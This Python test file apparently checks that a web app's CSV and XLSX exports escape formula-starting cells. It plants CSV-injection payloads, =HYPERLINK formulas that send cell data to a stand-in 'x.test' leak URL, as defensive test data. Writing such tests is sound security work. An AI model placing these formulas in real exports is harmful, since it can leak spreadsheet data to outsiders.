"""Every CSV and XLSX export, page or API, is formula-safe in every column: values that begin with
each character a spreadsheet runs as a formula are planted in the data that reaches each export,
and no cell of what is downloaded begins with one. Exports are written by one writer
(`stocktake.core.spreadsheets`), and no other module writes CSV or XLSX."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

import stocktake
from stocktake.accounts.services import issue_token, principal_for
from stocktake.app import DOMAINS
from stocktake.core.permissions import Principal, Role
from stocktake.core.spreadsheets import FORMULA_START
from stocktake.process.services import get_process
from stocktake.review.services.indicators import import_opensdg
from tests.factories.accounts import account, signed_in
from tests.factories.consultation import submitted
from tests.factories.registry import organisation

TRIGGERS = FORMULA_START  # = + - @ tab carriage-return
PLANTED = [f'{t}HYPERLINK("http://x.test/?leak="&A1,"click")' for t in TRIGGERS]
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?(?:[eE][-+]?[0-9]+)?")

TABLE_EXPORTS = [
    ("/inputs/export", "csv"),
    ("/inputs/export", "xlsx"),
    ("/api/v1/inputs/export", "csv"),
    ("/api/v1/inputs/export", "xlsx"),
    ("/api/v1/review/observations/export", "csv"),
    ("/actors/{code}/inputs/export", "csv"),
]
"""Every export that writes CSV or XLSX, with each of its table formats."""
DOCUMENT_EXPORTS = {
    "/summary/{summary_id}/export",
    "/api/v1/summaries/{summary_id}/export",
    "/drafts/{draft_id}/export",
    "/api/v1/drafts/{draft_id}/export",
    "/review/cycles/{slug}/report.docx",
    "/drafts/{draft_id}/amendments/{amendment_number}/export",
    "/api/v1/drafts/{draft_id}/amendments/{amendment_number}/export",
    "/api/v1/drafts/{draft_id}/compilation/export",
}
"""Exports of documents (Markdown, HTML, DOCX, Akoma Ntoso), which hold no spreadsheet cells."""


def _page_routes(routes: list[Any]) -> list[APIRoute]:
    found: list[APIRoute] = []
    for route in routes:
        if isinstance(route, APIRoute):
            found.append(route)
        elif hasattr(route, "original_router"):
            found += _page_routes(route.original_router.routes)
    return found


def test_every_export_route_is_listed(bare_client: TestClient) -> None:
    pages = {
        route.path
        for domain in DOMAINS
        for name in dir(domain)
        if name == "views" or name.endswith("_views")
        for route in _page_routes(getattr(domain, name).router.routes)
    }
    api = set(bare_client.get("/api/v1/openapi.json").json()["paths"])
    exports = {
        path
        for path in pages | api
        if "export" in path or path.endswith((".csv", ".xlsx", ".docx", ".xml"))
    }
    assert exports == {path for path, _ in TABLE_EXPORTS} | DOCUMENT_EXPORTS


def test_no_module_but_the_one_writer_writes_csv_or_xlsx() -> None:
    package = Path(stocktake.__file__).resolve().parent
    writers = re.compile(r"csv\.writer|DictWriter|\bWorkbook\(|WriteOnlyCell")
    found = {
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"core/spreadsheets.py"}


def _plant(bare_session: Session, tmp_path: Path) -> str:
    """Hostile values in every place a user or a data source fills: inputs (title, text, external
    id, the submitter's name) and observations (SDG code, series, unit, a disaggregation's name
    and values)."""
    process = get_process(bare_session)
    actor = organisation(bare_session, name=PLANTED[0])
    for number, value in enumerate(PLANTED):
        submitted(
            bare_session,
            process,
            f"{value} is the text of input {number}",
            submitter=actor.code,
            title=value,
            external_id=f"{value} {number}",
        )
        submitted(bare_session, process, value, submitter="MEX")
    rows = "".join(
        f'{2015 + n},"{v.replace(chr(34), chr(34) * 2)}","{v.replace(chr(34), chr(34) * 2)}",'
        f'"{v.replace(chr(34), chr(34) * 2)}",{n - 3}\n'
        for n, v in enumerate(PLANTED)
    )
    planted_column = PLANTED[3].replace('"', '""')
    folder = tmp_path / "opensdg"
    (folder / "data").mkdir(parents=True)
    (folder / "meta").mkdir()
    (folder / "data" / "indicator_10-c-1.csv").write_text(
        f'Year,Series,Units,"{planted_column}",Value\n{rows}', encoding="utf-8"
    )
    (folder / "meta" / "10-c-1.md").write_text(
        "---\nindicator_number: '+1+2'\n---\n", encoding="utf-8"
    )
    import_opensdg(bare_session, folder, by=Principal.system(), country="MEX")
    return actor.code


def _cells(content: bytes, fmt: str) -> list[Any]:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(content.decode("utf-8"))) for c in row]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(("path", "fmt"), TABLE_EXPORTS, ids=[f"{p}-{f}" for p, f in TABLE_EXPORTS])
def test_no_export_cell_starts_a_formula(
    bare_client: TestClient, bare_session: Session, tmp_path: Path, path: str, fmt: str
) -> None:
    code = _plant(bare_session, tmp_path)
    path = path.replace("{code}", code)
    secretariat = account(bare_session, Role.SECRETARIAT)
    headers = {}
    if path.startswith("/api/v1/inputs"):
        token = issue_token(bare_session, secretariat, by=principal_for(secretariat))
        headers["Authorization"] = f"Bearer {token}"
    elif not path.startswith("/api/"):
        signed_in(bare_client, secretariat)
    response = bare_client.get(path, params={"format": fmt}, headers=headers)
    assert response.status_code == 200, response.text
    cells = _cells(response.content, fmt)
    texts = [c for c in cells if isinstance(c, str)]
    assert [c for c in texts if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)] == []
    # the planted values reached the export, quoted
    assert "'" + PLANTED[0] in texts
    if "observations" in path:
        assert {"'" + PLANTED[1], "'" + PLANTED[3], "'+1+2"} <= set(texts)
